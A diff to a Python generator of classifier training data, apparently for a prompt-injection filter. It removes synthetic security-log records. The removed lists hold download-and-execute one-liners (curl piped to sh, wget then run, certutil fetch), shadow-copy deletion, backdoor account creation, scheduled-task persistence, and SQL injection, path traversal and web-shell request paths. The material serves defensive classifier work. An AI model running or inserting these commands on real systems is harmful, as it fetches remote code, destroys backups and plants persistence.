@@ -1063,115 +1063,6 @@ PROMPT_ATTACKS = (
 )
 
 
-# ------------------------------------------------------------ security records
-# What a security team hands its analyst assistant to read: log lines, alerts, process
-# records, web requests, malware reports, advisories and incident timelines. They record
-# attacks (commands, addresses, payload paths) without addressing whoever reads them, so
-# they are content, not injections; without them the classifier learnt that any recorded
-# command or address is an attack, and removed a quarter of a security team's clean rows
-# (scripts/bench_security.py, 2026-12-08). Written for tunegate; addresses are from the
-# benchmarking range (198.18.0.0/15) or private ones, so none is one of the benches'.
-SEC_HOSTS = ["web-01", "db-03", "FIN-LT-044", "mail-gw", "dc01", "build-07", "hr-pc-19", "vpn-edge"]
-SEC_USERS = ["svc_sql", "m.kowalski", "backup_admin", "jsmith", "www-data", "k.tanaka", "SYSTEM"]
-SEC_IPS = [
-    "198.18.4.77",
-    "198.18.120.9",
-    "198.19.200.3",
-    "198.19.7.150",
-    "10.20.1.14",
-    "10.44.2.7",
-    "172.16.4.9",
-    "192.168.77.4",
-]
-SEC_RULES = [
-    "Outbound traffic to known botnet infrastructure",
-    "Credential dumping tool detected",
-    "Suspicious PowerShell download cradle",
-    "Possible ransomware file renaming",
-    "Brute force against RDP",
-    "Beaconing to a rare external domain",
-    "Web shell upload attempt",
-    "Lateral movement over SMB",
-    "Data exfiltration over DNS",
-    "Office macro spawned a command shell",
-]
-SEC_COMMANDS = [
-    "powershell -NoProfile -WindowStyle Hidden -EncodedCommand JABjAD0ATgBlAHcALQBPAGIA",
-    "certutil -urlcache -f http://{ip}/a.exe a.exe",
-    "bash -c 'curl -s http://{ip}/i.sh | sh'",
-    r"rundll32.exe C:\Users\Public\x.dll,Start",
-    "vssadmin delete shadows /all /quiet",
-    "net user helpdesk2 Winter2026! /add",
-    "wget http://{ip}/m -O /tmp/m; chmod +x /tmp/m; /tmp/m",
-    r"schtasks /create /tn Updater /tr C:\ProgramData\u.exe /sc minute",
-]
-SEC_PATHS = [
-    "/wp-login.php",
-    "/index.php?id=1%27%20OR%201=1--",
-    "/download?file=../../../../boot.ini",
-    "/.env",
-    "/cgi-bin/test?cmd=id",
-    "/admin/config.php",
-    "/shell.php?c=whoami",
-    "/login",
-]
-SEC_LINES = [
-    "{ts} {host} sshd[4410]: Accepted publickey for {user} from {ip} port 50122",
-    "{ts} {host} sshd[4410]: Failed password for root from {ip} port 41830 ssh2",
-    "{ts} {host} kernel: [UFW BLOCK] IN=eth0 SRC={ip} DST=10.0.0.12 PROTO=TCP DPT=445",
-    "{ts} {host} sudo: {user} : TTY=pts/0 ; COMMAND=/usr/bin/systemctl restart nginx",
-    '{ts} alert severity=high rule="{rule}" src={ip} dst={host}',
-    '{ts} process_create host={host} user={user} cmdline="{cmd}"',
-    '{ip} - - [{date}] "GET {path} HTTP/1.1" {code} 512',
-    "{ts} {host} EDR quarantined {file} (detected as Trojan.Generic)",
-    "{ts} proxy deny {user} -> http://{ip}/update.bin (category: malware)",
-    "{ts} {host} EventID=4625 logon failure user={user} src={ip}",
-]
-SEC_FILES = ["invoice_0412.xlsm", "setup_patch.exe", "svch0st.exe", "loader.dll", "report.pdf.js"]
-SEC_SENTENCES = [
-    "The sample beacons to {ip} every 60 seconds over HTTPS.",
-    "Persistence is set through a Run key that starts {file} at logon.",
-    "The loader drops {file} into the AppData folder and deletes itself.",
-    "The actor used stolen VPN credentials to reach the file server.",
-    "Lateral movement relied on PsExec and a reused local administrator password.",
-    "Stolen data was staged in a password-protected archive before upload to {ip}.",
-    "A remote attacker could execute arbitrary code by sending a crafted packet.",
-    "Successful exploitation lets a local user escalate privileges to SYSTEM.",
-    "The flaw lets an unauthenticated user read any file on the server.",
-    "Upgrade to version 4.2.1 or later; no workaround is available.",
-    "At {time} the user reported a pop-up asking for their password.",
-    "At {time} the SOC blocked the command server {ip} at the proxy.",
-    "At {time} the attacker encrypted the shared finance drive.",
-    "At {time} the host {host} was isolated and reimaged.",
-]
-
-
-def _security_record(rng: random.Random) -> str:
-    """A few lines of a log, an alert feed or a report, as an analyst receives them."""
-    lines = rng.choice([SEC_LINES, SEC_SENTENCES])
-    out = []
-    for line in rng.sample(lines, rng.randint(1, 4)):
-        ip = rng.choice(SEC_IPS)
-        out.append(
-            line.format(
-                ts=f"2026-0{rng.randint(1, 9)}-1{rng.randint(0, 9)} 0{rng.randint(0, 9)}:"
-                f"{rng.randint(10, 59)}:{rng.randint(10, 59)}",
-                date=f"1{rng.randint(0, 9)}/Mar/2026:0{rng.randint(0, 9)}:{rng.randint(10, 59)}"
-                ":07 +0000",
-                time=f"{rng.randint(10, 23)}:{rng.randint(10, 59)}",
-                host=rng.choice(SEC_HOSTS),
-                user=rng.choice(SEC_USERS),
-                ip=ip,
-                rule=rng.choice(SEC_RULES),
-                cmd=rng.choice(SEC_COMMANDS).format(ip=ip),
-                path=rng.choice(SEC_PATHS),
-                code=rng.choice(["200", "403", "404", "500"]),
-                file=rng.choice(SEC_FILES),
-            )
-        )
-    return "\n".join(out) if lines is SEC_LINES else " ".join(out)
-
-
 def build(seed: int = SEED) -> list[dict[str, object]]:
     rng = random.Random(seed)
     rows: list[dict[str, object]] = []
@@ -1227,10 +1118,6 @@ def build(seed: int = SEED) -> list[dict[str, object]]:
             "context",
             "lookalike_in_content",
         )
-    # last, from a generator of their own, so every row above stays as it was
-    sec = random.Random(seed + 1)
-    for _ in range(100):
-        add(_security_record(sec), 0, "context", "security_record")
     return rows
 
 
